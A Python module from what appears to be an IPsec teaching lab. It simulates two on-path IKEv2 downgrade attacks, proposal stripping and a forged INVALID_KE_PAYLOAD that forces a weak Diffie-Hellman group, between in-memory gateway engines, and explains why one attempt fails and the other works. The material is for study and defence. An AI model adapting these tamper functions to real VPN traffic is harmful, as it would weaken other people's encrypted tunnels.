"""downgrade: an on-path attacker pushes IKE_SA_INIT towards weaker algorithms.

Two attempts, both by mallory rewriting the wire between gw1 and gw2 (RFC 7296):

* **Stripping proposals** from the IKE_SA_INIT request, so that the responder picks a weak
  one. IKE_SA_INIT is not protected, but §2.15 has each side sign *its own first message
  as sent*: gw1's AUTH covers the request with every proposal, gw2 checks it against the
  request it received, stripped. They differ, and gw2 answers AUTHENTICATION_FAILED. No SA
  comes up, in any configuration.
* **Forging INVALID_KE_PAYLOAD** (§1.2, §3.10.1): mallory drops gw1's request and answers
  itself, as gw2, "use this DH group instead". The notify is not authenticated and the
  retried request is genuine, so AUTH verifies. If both peers still accept a weak group, the
  IKE SA comes up in it (the weak configuration: modp1024 with SHA-1 beside x25519; a
  group a Logjam-type adversary may break, Adrian et al. 2015). If no weak group is
  configured, gw1 refuses a group it never offered and no weak SA can exist; an on-path
  attacker can always stop the exchange, but not weaken it.

The lesson: AUTH protects what the peers *said*, not what they *would accept*; configure
only proposals you are content to end up with.

This attack runs the lab's two IKE engines (the same code the gateways run) joined in
memory with the attacker's rewriting function between them: it targets only the lab's own
configurations, and sends nothing on any network.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ipseclab.attacks.common import AttackResult, check_config
from ipseclab.attacks.ike_common import engine_pair, run_pair
from ipseclab.crypto import dh
from ipseclab.ike import events
from ipseclab.ike.constants import ExchangeType, HeaderFlag, NotifyType
from ipseclab.ike.message import Message, parse_message
from ipseclab.ike.payloads import KeyExchange, Notify, SecurityAssociation

NAME = "downgrade"
WEAK = "weak"  # x25519 or modp1024/SHA-1 on both sides
RECOMMENDED = "recommended"  # x25519 only
WEAK_GROUP = "modp1024"


def _is_init_request(msg: Message) -> bool:
    return msg.exchange_type == ExchangeType.IKE_SA_INIT and not msg.is_response


def strip_first_proposal(data: bytes, sender: str) -> list:
    """The tamper function: drop the initiator's first (strongest) IKE proposal."""
    msg = parse_message(data)
    if sender == "gw1" and _is_init_request(msg):
        sa = msg.find(SecurityAssociation)
        if sa is not None and len(sa.proposals) > 1:
            sa.proposals = sa.proposals[1:]
            for number, proposal in enumerate(sa.proposals, 1):
                proposal.number = number
            return [msg.to_bytes()]
    return [data]


def forge_invalid_ke(group: int) -> Any:
    """A tamper function that answers gw1's first request with INVALID_KE_PAYLOAD(group)."""
    state = {"forged": 0}

    def tamper(data: bytes, sender: str) -> list:
        msg = parse_message(data)
        if (sender == "gw1" and _is_init_request(msg) and state["forged"] == 0
                and msg.find(KeyExchange) is not None and msg.find(KeyExchange).group != group):
            state["forged"] += 1
            forged = Message(msg.spi_i, bytes(8), ExchangeType.IKE_SA_INIT, HeaderFlag.R, 0,
                             [Notify.invalid_ke_payload(group)])
            return [("reply", forged.to_bytes())]  # gw2 never sees the request
        return [data]

    return tamper


def _established(events_: list) -> list[events.IkeSaEstablished]:
    return [e for e in events_ if isinstance(e, events.IkeSaEstablished)]


def _failures(events_: dict[str, list]) -> list[str]:
    out = []
    for node, evs in events_.items():
        for e in evs:
            if isinstance(e, events.AuthenticationFailed):
                out.append(f"{node}: AUTHENTICATION_FAILED ({'peer' if e.by_peer else 'own'}"
                           f" check{': ' + e.reason if e.reason else ''})")
            elif isinstance(e, events.NegotiationFailed):
                out.append(f"{node}: {NotifyType(e.notify).name}: {e.reason}")
    return out


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None) -> AttackResult:
    """Both attempts against the configuration; succeeded = an IKE SA in the weak group."""
    check_config(config)
    weak_id = dh.dh_group(WEAK_GROUP).iana_id
    stripped = run_pair(engine_pair(NAME, config), strip_first_proposal)
    forged = run_pair(engine_pair(NAME, config), forge_invalid_ke(weak_id))
    strip_up = _established(stripped.events["gw2"])
    forged_up = _established(forged.events["gw1"]) + _established(forged.events["gw2"])
    downgraded = [e for e in forged_up if WEAK_GROUP in e.proposal]
    details = {
        "strip": {"established": [e.proposal for e in strip_up],
                  "failures": _failures(stripped.events)},
        "forged_invalid_ke": {"established": sorted({e.proposal for e in forged_up}),
                              "failures": _failures(forged.events)},
    }
    strip_text = ("stripping gw1's first proposal: " +
                  ("; ".join(details["strip"]["failures"]) or "no failure?")
                  + " (AUTH signs the request as gw1 sent it)")
    if downgraded:
        forge_text = (f"forged INVALID_KE_PAYLOAD({WEAK_GROUP}): gw1 retried, gw2 chose the"
                      f" weak proposal, the IKE SA is up with {downgraded[0].proposal}:"
                      " the unauthenticated notify downgraded it")
    else:
        forge_text = (f"forged INVALID_KE_PAYLOAD({WEAK_GROUP}): "
                      + ("; ".join(details["forged_invalid_ke"]["failures"])
                         or "ignored") + "; no IKE SA in a weak group")
    counters = {"events": {"auth_failed": sum("AUTHENTICATION_FAILED" in f for f in
                                              details["strip"]["failures"]),
                           "downgraded_sas": len(downgraded)}}
    return AttackResult(NAME, config, bool(downgraded), strip_text + "\n" + forge_text,
                        details=details, counters=counters)
